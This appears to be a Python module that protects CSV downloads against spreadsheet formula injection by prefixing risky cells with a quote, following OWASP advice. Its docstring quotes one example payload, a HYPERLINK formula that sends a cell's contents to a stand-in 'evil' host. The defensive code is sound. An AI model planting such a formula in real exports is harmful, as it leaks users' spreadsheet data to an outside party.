"""Files a person downloads, made safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is a formula
to Excel, LibreOffice and Google Sheets: a typed sentence or a corpus row such as
``=HYPERLINK("http://evil/?"&A1)`` would run when the export is opened. As OWASP advises for CSV
injection, such a cell is prefixed with a single quote, which the spreadsheet shows as text.
Numbers are written as numbers (``-0.5`` stays a number).

>>> from embedviz.exports import safe_cell
>>> safe_cell("=1+2"), safe_cell("-bank"), safe_cell("bank"), safe_cell(-0.5)
("'=1+2", "'-bank", 'bank', -0.5)
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula; anything
    else (numbers, None) as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_cells(values) -> list:
    """:func:`safe_cell` of each value."""
    return [safe_cell(v) for v in values]


def safe_csv(df, **to_csv) -> str:
    """``df.to_csv(**to_csv)`` with every text cell, index label and column name made safe: the one
    way a table becomes a downloadable CSV (the app's "Numbers (CSV)" buttons use it)."""
    import pandas as pd

    out = df.copy()
    for c in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[c]) or pd.api.types.is_bool_dtype(out[c])):
            out[c] = out[c].map(safe_cell)
    out.columns = [safe_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
    if not pd.api.types.is_numeric_dtype(out.index):
        out.index = pd.Index([safe_cell(v) for v in out.index], name=safe_cell(out.index.name))
    to_csv.setdefault("lineterminator", "\r\n")  # RFC 4180; a cell holding a line break is quoted, so stays one cell
    return out.to_csv(**to_csv)
